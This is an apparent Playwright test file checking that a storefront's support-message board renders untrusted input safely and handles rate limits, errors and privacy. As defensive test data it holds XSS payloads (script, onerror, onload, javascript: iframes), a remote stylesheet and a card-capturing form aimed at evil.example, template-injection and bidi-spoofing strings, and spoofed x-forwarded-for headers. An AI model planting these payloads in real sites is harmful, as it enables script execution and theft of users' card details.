/** Messages to the studio: sent, refused, and publicly shown. */
import { randomUUID } from 'node:crypto';
import { sendPublicly } from '@storefront/e2e/captcha';
import { signedUp } from '@storefront/e2e/shopper';
import { expect, test } from '@storefront/e2e/test';
import { SECOND } from '@storefront/utils/time';
import { isSent, passCheck, sendButton, text, write } from './message.ts';

test('a message with markup is shown as text, to everyone at once, without the address', { tag: '@alone' }, async ({
  page,
  anotherBrowser,
}) => {
  const mark = randomUUID();
  const marked = `<script>document.title='owned'</script><img src=x onerror=alert(1)> ${mark}`;
  const email = `writer-${mark}@example.com`;
  const reader = await (await anotherBrowser()).newPage();
  const subscribes = reader.waitForRequest(/\/api\/support-messages\/events$/);
  await reader.goto('/support');
  await expect(reader.getByRole('heading', { name: 'Recent Messages' })).toBeVisible();
  await subscribes;

  await page.goto('/support');
  await write(page, { name: '<b>Mara</b> 🐉', email, subject: '</script><!--', message: marked });
  await passCheck(page);
  await sendButton(page).click();
  await isSent(page);
  await expect(page.getByText(marked)).toBeVisible();

  // No reload is needed.
  const message = reader.getByRole('article').filter({ hasText: mark });
  await expect(message).toBeVisible();
  await expect(message).toContainText('<b>Mara</b> 🐉');
  await expect(message.getByRole('heading', { name: '</script><!--' })).toBeVisible();
  await expect(reader.getByText(email)).toHaveCount(0);
  await expect(reader).toHaveTitle(/^Support · /);
});

test('a page that was refused news asks for it again within seconds', { tag: '@more' }, async ({
  page,
  expectComplaints,
}) => {
  const events = /\/api\/support-messages\/events$/;
  expectComplaints(/503/);
  await page.route(events, (route) => route.fulfill({ status: 503 }), { times: 2 });
  // Without the stream, a page polls every minute.
  const isOpen = page.waitForResponse((response) => events.test(response.url()) && response.ok(), {
    timeout: 30 * SECOND,
  });
  await page.goto('/support');
  await page.getByRole('heading', { name: 'Recent Messages' }).scrollIntoViewIfNeeded();
  await isOpen;
});

test('a message of a signed-in shopper needs no check, and is shown to them alone', {
  tag: ['@alone', '@more'],
}, async ({ page, context, anotherBrowser }) => {
  const { email } = await signedUp(context);
  const subject = `Private ${randomUUID()}`;
  await page.goto('/support');
  await expect(page.getByLabel('Email')).toHaveValue(email);
  await expect(page.getByRole('group', { name: 'Security check' })).toHaveCount(0);
  await write(page, { subject, message: 'Only for the studio.' });
  await sendButton(page).click();
  await isSent(page);
  const own = page.getByRole('region', { name: 'Your Messages' });
  await expect(own.getByRole('heading', { name: subject })).toBeVisible();
  await expect(page.getByRole('heading', { name: subject })).toHaveCount(1);
  const other = await anotherBrowser();
  const list = await (await other.newPage()).goto('/support');
  expect(await list?.text()).not.toContain(subject);
});

test('a message that lacks something is not sent, and says so', async ({ page }) => {
  await page.goto('/support');
  await write(page, { name: 'Mara', email: 'mara@example.com', subject: '   ', message: 'Are there griffins?' });
  await passCheck(page);
  await sendButton(page).click();
  await expect(page.getByText('All fields are required!')).toBeVisible();
  await expect(page.getByLabel('Subject')).toBeFocused();
  await expect(text(page)).toHaveValue('Are there griffins?');
});

test('whoever writes too many messages is told to wait, and the draft outlives leaving the page', {
  tag: '@more',
}, async ({ page, context, expectComplaints }) => {
  expectComplaints(/429/);
  const message = { name: 'Mara', email: 'mara@example.com', subject: 'Again', message: 'And again.' };
  for (let count = 0; count < 5; count++) await sendPublicly(context, message);
  await page.goto('/support');
  await write(page, { ...message, message: 'One too many.' });
  await passCheck(page);
  await sendButton(page).click();
  await expect(page.getByText('Too many requests. Please try again later.')).toBeVisible();
  await expect(text(page)).toHaveValue('One too many.');
  await page.reload();
  await expect(text(page)).toHaveValue('One too many.');
});

test('when the recent messages cannot be loaded, trying again shows them', { tag: '@more' }, async ({
  page,
  expectComplaints,
}) => {
  expectComplaints(/500/);
  const subject = `Griffins ${randomUUID()}`;
  // Otherwise messages of other tests would make the page retry on its own.
  await page.addInitScript(() => Reflect.deleteProperty(globalThis, 'EventSource'));
  await page.goto('/support');
  const recent = '**/api/support-messages/recent';
  await page.route(recent, (route) => route.fulfill({ status: 500, json: { code: 'internal_error', detail: '' } }));
  await write(page, { name: 'Mara', email: 'mara@example.com', subject, message: 'Are there any?' });
  await passCheck(page);
  await sendButton(page).click();
  await isSent(page);
  const tryAgain = page.getByRole('button', { name: 'Try again' });
  await expect(tryAgain).toBeVisible();
  await page.unroute(recent);
  await tryAgain.click();
  await expect(page.getByRole('heading', { name: subject })).toBeVisible();
});

test('a long address in the message widens neither the form nor the page', { tag: '@alone' }, async ({ page }) => {
  await page.goto('/support');
  const width = () => page.evaluate(() => document.documentElement.scrollWidth);
  const before = await width();
  await write(page, { message: `See https://example.com/${'griffin'.repeat(60)}` });
  expect(await width()).toBe(before);
});

const corpus = [
  `<svg onload="document.title='owned'"><iframe src="javascript:document.title='owned'">`,
  `"><style>*{display:none!important}</style><link rel=stylesheet href=//evil.example/x.css>`,
  `{{constructor.constructor('document.title=1')()}} \${7*7} <%= 7*7 %>`,
  `</textarea><form action=//evil.example><input name=card></form>`,
  `\u202Egnp.exe \u2066\u2067 \u0007\u001B[31mred Z${'\u0301'.repeat(200)}`,
  `Win now: https://evil.example/x www.evil.example evil.example/y mail me@evil.example or +1 555 123 4567 890`,
  'W'.repeat(4000),
];

test('whatever strangers send neither runs nor leads away nor breaks the page', { tag: '@more' }, async ({
  page,
  anotherBrowser,
}) => {
  const subject = `Corpus ${randomUUID().slice(0, 8)}`;
  const senders = await Promise.all(corpus.map(async () => await anotherBrowser()));
  for (const [index, message] of corpus.entries()) {
    const sender = senders[index];
    // Each sender has its own IP address.
    await sender?.setExtraHTTPHeaders({ 'x-forwarded-for': `172.16.${index}.${Math.floor(Math.random() * 250)}` });
    if (sender) await sendPublicly(sender, { name: 'Ann', email: 'ann@example.com', subject, message });
  }
  await page.goto('/support');
  const messages = page.getByRole('article').filter({ hasText: subject });
  await expect(messages).toHaveCount(corpus.length);
  await expect(page).toHaveTitle(/^Support · /);
  expect(await messages.locator('a, img, svg, iframe, style, script, form, input').count()).toBe(0);
  for (const gone of ['https://evil.example', 'www.evil.example', 'me@evil.example', '555 123']) {
    await expect(messages.getByText(gone)).toHaveCount(0);
  }
  const width = await page.evaluate(() => [document.documentElement.scrollWidth, innerWidth]);
  expect(width[0]).toBeLessThanOrEqual(width[1] ?? 0);
  expect((await messages.first().boundingBox())?.height).toBeLessThan(600);
});
